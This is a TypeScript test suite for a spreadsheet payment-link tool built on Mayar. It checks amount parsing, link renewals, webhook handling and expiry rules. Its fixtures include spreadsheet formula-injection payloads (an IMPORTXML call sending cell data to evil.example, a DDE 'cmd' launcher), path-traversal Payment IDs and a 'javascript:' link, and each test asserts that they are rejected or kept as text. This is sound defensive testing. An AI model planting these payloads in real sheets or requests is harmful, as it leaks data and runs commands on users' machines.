/**
 * Rows stay true, end to end on the built bundle: amounts a person could read two ways, ids
 * that would change a URL, text copied into other sheets, expiry as sent, renewals that close
 * the old request first, property values measured in bytes.
 */
import { describe, expect, it } from 'vitest';
import { SHEET, World } from '../support/world';

const HEADER = ['Name', 'Amount', 'Email', 'Mobile', 'Description', 'Expires At'];

describe('bad input, named', () => {
  it('refuses an amount with separators a person could read two ways, and sends nothing for it', () => {
    const world = new World({
      rows: [HEADER, ['Budi', '1.500,000', '', '', 'Katering', ''], ['Siti', "'1,000.000", '', '', 'Kue', ''], ['Andi', '250000', '', '', 'Tenda', '']],
    });
    world.run('createPaymentLinks');
    const errors = world.column('Error');
    expect(errors[0]).toBe('Amount: "1.500,000" can be read two ways; write it with one kind of separator, e.g. 1500000 or 1.500.000');
    expect(errors[1]).toContain('"1,000.000" can be read two ways');
    expect(errors[2]).toBe('');
    expect(world.sim.payments().map((p) => p.amount)).toEqual([250000]);
  });
});

/** A sheet whose links were made, then a Payment ID cell typed over. */
function withLinks(rows: string[][]): World {
  const world = new World({ rows: [HEADER, ...rows] });
  world.run('createPaymentLinks');
  return world;
}

function typeAt(world: World, header: string, dataRow: number, text: string): void {
  const column = world.header().indexOf(header) + 1;
  world.runtime.spreadsheet.sheet(SHEET).write(dataRow + 1, column, text);
}

describe('ids that would change a URL', () => {
  it.each(['..', '.', 'abc/../../payments', 'abc def'])('refresh gives %j a row error and sends nothing to another path', (bad) => {
    const world = withLinks([
      ['Budi', '250000', '', '', 'Katering', ''],
      ['Siti', '150000', '', '', 'Kue', ''],
    ]);
    typeAt(world, 'Payment ID', 1, bad);
    const before = world.sim.requests.length;
    world.run('refreshPaymentStatus');
    world.driveToEnd();
    expect(world.column('Error')[0]).toContain(`Payment ID: "${bad}" does not look like a Mayar id`);
    const paths = world.sim.requests.slice(before).map((r) => r.path);
    expect(paths.every((p) => /^\/hl\/v2\/(payments|webhooks\/history|transactions)(\/[0-9a-f-]{36})?$/.test(p))).toBe(true);
    expect(world.column('Status')[1]).toBe('Unpaid');
  });

  it('close gives a bad Payment ID a row error and closes only real ids', () => {
    const world = withLinks([
      ['Budi', '250000', '', '', 'Katering', ''],
      ['Siti', '150000', '', '', 'Kue', ''],
    ]);
    typeAt(world, 'Payment ID', 1, '../payments/x');
    world.runtime.spreadsheet.setSelection(SHEET, 'A2:B3');
    world.runtime.ui.answers.push('YES');
    const before = world.sim.requests.length;
    world.run('closeSelectedPaymentLinks');
    expect(world.column('Error')[0]).toContain('Payment ID: "../payments/x" does not look like a Mayar id');
    expect(world.column('Status')).toEqual(['Unpaid', 'Closed']);
    expect(world.sim.requests.slice(before).map((r) => r.method + ' ' + r.path.replace(/[0-9a-f-]{36}/, '{id}'))).toEqual(['POST /hl/v2/payments/{id}/close']);
  });
});

describe('text copied into another sheet stays text', () => {
  const EVIL = ['=IMPORTXML("https://evil.example/?"&A2,"//a")', "+cmd|' /C calc'!A0", '@SUM(1)'];

  it('Bill again next period copies a name that reads like a formula as text', () => {
    const world = new World({
      rows: [['Name', 'Amount', 'Description', 'Expires At'], ...EVIL.map((name) => [`'${name}`, '150000', 'SPP Desember 2026', '2026-12-31'])],
    });
    expect(world.column('Name')).toEqual(EVIL);
    world.run('billNextPeriod');
    const sheet = 'January 2027';
    expect(world.column('Name', sheet)).toEqual(EVIL);
    expect(world.runtime.spreadsheet.formulas(sheet).flat().filter(Boolean)).toEqual([]);
  });

  it('the summary names a sheet that reads like a formula as text', () => {
    const world = new World({ rows: [HEADER, ['Budi', '250000', '', '', 'Katering', '']] });
    world.run('createPaymentLinks');
    world.runtime.spreadsheet.sheet(SHEET).name = EVIL[0] ?? '';
    world.run('refreshPaymentStatus');
    world.driveToEnd();
    const summary = world.runtime.spreadsheet.sheets.find((s) => /Summary|Ringkasan/.test(s.name))?.name ?? '';
    expect(world.values(summary).flat()).toContain(EVIL[0]);
    expect(world.runtime.spreadsheet.formulas(summary).flat().filter(Boolean)).toEqual([]);
  });
});

describe('Renew expired links closes the old request first', () => {
  it('a link paid after all becomes Paid with nothing new made; an unpaid one is closed in Mayar, then renewed, its old id kept', () => {
    const world = withLinks([
      ['Budi', '250000', '', '', 'Katering', ''],
      ['=IMPORTXML("https://evil.example","//a")', '150000', '', '', 'Kue', ''],
    ]);
    world.runtime.spreadsheet.sheet(SHEET).write(3, 1, '\'=IMPORTXML("https://evil.example","//a")');
    const [paidId, openId] = world.column('Payment ID').map(String);
    // The sheet says Expired; Budi paid in Mayar in the meantime.
    typeAt(world, 'Status', 1, 'Expired');
    typeAt(world, 'Status', 2, 'Expired');
    world.runtime.advance(60_000);
    world.sim.pay(paidId ?? '');
    const paidAt = world.runtime.clock.now();
    world.runtime.advance(120_000);
    const creates = world.createRequests();
    world.runtime.ui.answers.push('YES');
    world.run('renewExpiredLinks');
    world.driveToEnd();

    const [budi, other] = world.rows();
    expect(budi?.['Status']).toBe('Paid');
    expect(budi?.['Payment ID']).toBe(paidId);
    expect(Math.abs(((budi?.['Paid At'] as Date | undefined)?.getTime() ?? 0) - paidAt)).toBeLessThan(60_000);
    expect(world.sim.payment(paidId ?? '')?.status).toBe('paid');
    // One new link, for the unpaid row only; its old request is closed in Mayar.
    expect(world.createRequests()).toBe(creates + 1);
    expect(world.sim.payment(openId ?? '')?.status).toBe('closed');
    expect(other?.['Payment ID']).not.toBe(openId);
    expect(other?.['Status']).toBe('Unpaid');
    const closes = world.sim.requests.filter((r) => r.path.endsWith('/close')).map((r) => r.path);
    expect(closes).toEqual([`/hl/v2/payments/${paidId}/close`, `/hl/v2/payments/${openId}/close`]);
    // The old id stays known: in the Mayar Log (its customer name as text) and the renewed record.
    const log = world.rows('Mayar Log').filter((r) => r['Action'] === 'renew expired link');
    expect(log.map((r) => [r['Payment ID'], r['Outcome']])).toEqual([
      [paidId, 'Paid'],
      [openId, expect.stringContaining('Replaced') as unknown],
    ]);
    expect(log[1]?.['Customer']).toBe('=IMPORTXML("https://evil.example","//a")');
    expect(world.runtime.spreadsheet.formulas('Mayar Log').flat().filter(Boolean)).toEqual([]);
    const record = JSON.parse(world.runtime.properties.document.get('mayar.renewed') ?? '[]') as { o: string }[];
    expect(record.map((r) => r.o)).toEqual([openId]);
  });

  it('an Expired row whose Payment ID is no Mayar id gets a row error and no close to another path', () => {
    const world = withLinks([['Budi', '250000', '', '', 'Katering', '']]);
    typeAt(world, 'Payment ID', 1, '../../payments');
    typeAt(world, 'Status', 1, 'Expired');
    const before = world.sim.requests.length;
    world.run('renewExpiredLinks');
    expect(world.sim.requests.length).toBe(before);
    expect(world.column('Error')[0]).toContain('Payment ID: "../../payments" does not look like a Mayar id');
    expect(world.column('Status')[0]).toBe('Expired');
  });

  it('a close Mayar could not answer renews nothing and says so in the row, in Indonesian too', () => {
    const world = withLinks([['Budi', '250000', '', '', 'Katering', '']]);
    world.run('saveSettings', [{ language: 'id' }]);
    typeAt(world, 'Status', 1, 'Kedaluwarsa');
    world.sim.injectFault({ type: 'http-500', match: (r) => r.url.endsWith('/close') });
    const creates = world.createRequests();
    world.run('renewExpiredLinks');
    expect(world.createRequests()).toBe(creates);
    expect(world.column('Error')[0]).toContain('Link lama tidak bisa ditutup di Mayar');
    expect(world.column('Status')[0]).toBe('Kedaluwarsa');
    expect(world.alerts().at(-1)).toContain('Tidak ada link baru yang dibuat');
  });
});

describe('a late payment of a link Renew expired links replaced', () => {
  /** One row renewed: its old id closed in Mayar and replaced by a new link. */
  function renewed(): { world: World; oldId: string; newId: string; token: string } {
    const world = withLinks([['Budi', '250000', '', '', 'Katering', '']]);
    const oldId = String(world.column('Payment ID')[0]);
    typeAt(world, 'Status', 1, 'Expired');
    world.runtime.ui.answers.push('YES');
    world.run('renewExpiredLinks');
    world.driveToEnd();
    const newId = String(world.column('Payment ID')[0]);
    expect(newId).not.toBe(oldId);
    world.runtime.advance(2 * 60_000);
    const settings = world.run('getSettings').value as { webhookUrl: string };
    return { world, oldId, newId, token: new URL(settings.webhookUrl).searchParams.get('token') as string };
  }

  function post(world: World, token: string, body: string): Record<string, unknown> {
    const execution = world.runtime.post({ token }, body);
    expect(execution.error).toBeUndefined();
    return JSON.parse((execution.value as { getContent(): string }).getContent()) as Record<string, unknown>;
  }

  it("confirms the old payment with Mayar, marks the row Paid with Mayar's time, and closes the new link", () => {
    const { world, oldId, newId, token } = renewed();
    world.sim.pay(oldId);
    const paidAt = world.runtime.clock.now();
    world.runtime.advance(30_000);
    const before = world.sim.requests.length;
    expect(post(world, token, world.sim.webhookBody(oldId))).toEqual({ ok: true, confirmed: true });

    const [row] = world.rows();
    expect(row?.['Status']).toBe('Paid');
    expect(Math.abs(((row?.['Paid At'] as Date | undefined)?.getTime() ?? 0) - paidAt)).toBeLessThan(60_000);
    expect(row?.['Error']).toContain(`The earlier link ${oldId}`);
    expect(row?.['Error']).toContain(`the new link ${newId} was closed`);
    expect(world.sim.payment(newId)?.status).toBe('closed');
    const paths = world.sim.requests.slice(before).map((r) => `${r.method} ${r.path}`);
    expect(paths).toContain(`POST /hl/v2/payments/${newId}/close`);
    const log = world.rows('Mayar Log').filter((r) => r['Action'] === 'webhook');
    expect(log.map((r) => [r['Payment ID'], r['Outcome']])).toEqual([[oldId, 'Paid']]);
    expect(String(log[0]?.['Details'])).toContain('earlier link');
    // A repeat of the same webhook changes nothing and closes nothing more.
    world.runtime.advance(11 * 60_000);
    const again = world.sim.requests.length;
    expect(post(world, token, world.sim.webhookBody(oldId))).toMatchObject({ ok: true, repeat: true });
    expect(world.sim.requests.length).toBe(again);
  });

  it('says so in the row and the log when the new link was paid too', () => {
    const { world, oldId, newId, token } = renewed();
    world.sim.pay(newId, { delivery: 'FAILED' });
    world.sim.pay(oldId);
    world.runtime.advance(30_000);
    post(world, token, world.sim.webhookBody(oldId));
    const [row] = world.rows();
    expect(row?.['Status']).toBe('Paid');
    expect(row?.['Error']).toContain('Both paid');
    expect(row?.['Error']).toContain('needs a refund');
    const log = world.rows('Mayar Log').filter((r) => r['Action'] === 'webhook');
    expect(log.map((r) => r['Outcome'])).toEqual(['both paid: needs a refund']);
  });

  it('a refresh finds a late payment of the old link in the webhook history (the webhook never arrived) and resolves the row', () => {
    const { world, oldId, newId } = renewed();
    world.sim.setWebhookUrl('sandbox', 'https://script.google.com/macros/s/AKfy-test/exec?token=x');
    world.sim.pay(oldId, { delivery: 'FAILED' });
    const paidAt = world.runtime.clock.now();
    world.runtime.advance(2 * 60_000);
    world.run('refreshPaymentStatus');
    world.driveToEnd();
    const [row] = world.rows();
    expect(row?.['Status']).toBe('Paid');
    expect(Math.abs(((row?.['Paid At'] as Date | undefined)?.getTime() ?? 0) - paidAt)).toBeLessThan(60_000);
    expect(row?.['Error']).toContain(`The earlier link ${oldId}`);
    expect(world.sim.payment(newId)?.status).toBe('closed');
    // A second refresh changes nothing and closes nothing more.
    world.runtime.advance(15 * 60_000);
    const before = world.sim.requests.filter((r) => r.path.endsWith('/close')).length;
    world.run('refreshPaymentStatus');
    world.driveToEnd();
    expect(world.sim.requests.filter((r) => r.path.endsWith('/close')).length).toBe(before);
    expect(world.rows()[0]?.['Status']).toBe('Paid');
  });

  it('a forged webhook naming the old id changes nothing when Mayar says it is not paid', () => {
    const { world, oldId, newId, token } = renewed();
    const creates = world.createRequests();
    expect(post(world, token, world.sim.webhookBody(oldId))).toEqual({ ok: true, confirmed: false });
    const [row] = world.rows();
    expect(row?.['Status']).toBe('Unpaid');
    expect(row?.['Payment ID']).toBe(newId);
    expect(world.sim.payment(newId)?.status).toBe('unpaid');
    expect(world.sim.requests.some((r) => r.path.endsWith(`${newId}/close`))).toBe(false);
    expect(world.createRequests()).toBe(creates);
  });
});

describe('property values measured in bytes', () => {
  it('refuses templates that would not fit in 9 KB of UTF-8, naming the size in the user language, and keeps what was saved', () => {
    const world = new World({ rows: [HEADER] });
    world.run('saveSettings', [{ language: 'id' }]);
    expect((world.run('saveDeliverySettings', [{ templates: { bill: 'Halo {name}' } }]).value as { ok: boolean }).ok).toBe(true);
    // 900 emoji: 1,800 characters (under the old character cap), 3,600 bytes each.
    const big = `Halo {name} ${'🙏'.repeat(900)}`;
    const result = world.run('saveDeliverySettings', [{ templates: { bill: big, reminderBefore: big, reminderDue: big } }]).value as {
      ok: boolean;
      errors: Record<string, string>;
    };
    expect(result.ok).toBe(false);
    expect(Object.values(result.errors)).toEqual([expect.stringMatching(/^Template ini berukuran 3,6 KB; bersama template lain menjadi 10,\d KB/) as unknown]);
    const stored = JSON.parse(world.runtime.properties.document.get('mayar.delivery') ?? '{}') as { templates: Record<string, string> };
    expect(stored.templates).toEqual({ bill: 'Halo {name}' });
  });
});

describe('a WhatsApp Link cell that is not a link', () => {
  it('is skipped with a note naming the row, and the queue still opens', () => {
    const world = new World({
      rows: [
        ['Name', 'Amount', 'No HP', 'Expires At', 'Payment Link', 'Payment ID', 'Status'],
        ['Budi', '150000', '081234567890', '2026-12-31', 'https://pay.example/1', 'pay-1', 'Unpaid'],
        ['Sari', '250000', '081234567891', '2026-12-31', 'https://pay.example/2', 'pay-2', 'Unpaid'],
        ['Andi', '99000', '081234567892', '2026-12-31', 'https://pay.example/3', 'pay-3', 'Unpaid'],
      ],
    });
    world.run('getWhatsAppQueue');
    // A broken escape (that throws when decoded) and a link edited into something else.
    typeAt(world, 'WhatsApp Link', 1, 'https://wa.me/6281234567890?text=Halo%E0%A4%A');
    typeAt(world, 'WhatsApp Link', 3, 'javascript:alert(1)');
    const queue = world.run('getWhatsAppQueue').value as { items: { name: string; url: string }[]; note?: string };
    expect(queue.items.map((i) => i.name)).toEqual(['Sari']);
    expect(queue.items[0]?.url).toMatch(/^https:\/\/wa\.me\/6281234567891\?text=/);
    expect(queue.note).toBe('Rows skipped: 2, 4. Their WhatsApp Link cell is not a wa.me link; clear it and open Send by WhatsApp again to make a new link.');
  });
});

describe('Expired comes from what was sent, not from an edited Expires At', () => {
  function note(world: World, header: string, dataRow: number): string {
    return world.runtime.spreadsheet.sheet(SHEET).note(dataRow + 1, world.header().indexOf(header) + 1);
  }

  it('an Expires At moved into the past after the link went out leaves the row Unpaid, saying when the link really expires', () => {
    const world = withLinks([
      ['Budi', '250000', '', '', 'Katering', '2026-12-31'],
      ['Siti', '150000', '', '', 'Kue', '2026-12-31'],
    ]);
    expect(note(world, 'Payment ID', 1)).toBe(
      'Sent to Mayar: the link expires 2026-12-31 23:59:59. Editing Expires At does not change this link. [2026-12-31T16:59:59.000Z]',
    );
    // Now is 25 November 2026; Budi's Expires At is typed over with a date already past.
    typeAt(world, 'Expires At', 1, '2026-11-20');
    world.run('refreshPaymentStatus');
    world.driveToEnd();
    expect(world.column('Status')).toEqual(['Unpaid', 'Unpaid']);
    expect(world.column('Error')[0]).toBe(
      'Expires At was changed after the link was sent; the Mayar link still expires 2026-12-31 23:59:59. To give it another date, close it and create a new link.',
    );
    expect(world.column('Error')[1]).toBe('');
  });

  it('an Expires At moved later does not keep a link alive past the expiry it was sent with', () => {
    const world = withLinks([['Budi', '250000', '', '', 'Katering', '2026-12-01']]);
    typeAt(world, 'Expires At', 1, '2027-01-31');
    world.runtime.advance(7 * 86_400_000);
    world.run('refreshPaymentStatus');
    world.driveToEnd();
    expect(world.column('Status')).toEqual(['Expired']);
  });

  it('the note moves with its row when the sheet is sorted', () => {
    const world = withLinks([
      ['Budi', '250000', '', '', 'Katering', '2026-12-31'],
      ['Andi', '150000', '', '', 'Kue', '2026-12-30'],
    ]);
    world.runtime.spreadsheet.sheet(SHEET).sortRows(2, 3, 1, true);
    expect(world.column('Name')).toEqual(['Andi', 'Budi']);
    expect(note(world, 'Payment ID', 1)).toContain('[2026-12-30T16:59:59.000Z]');
  });
});
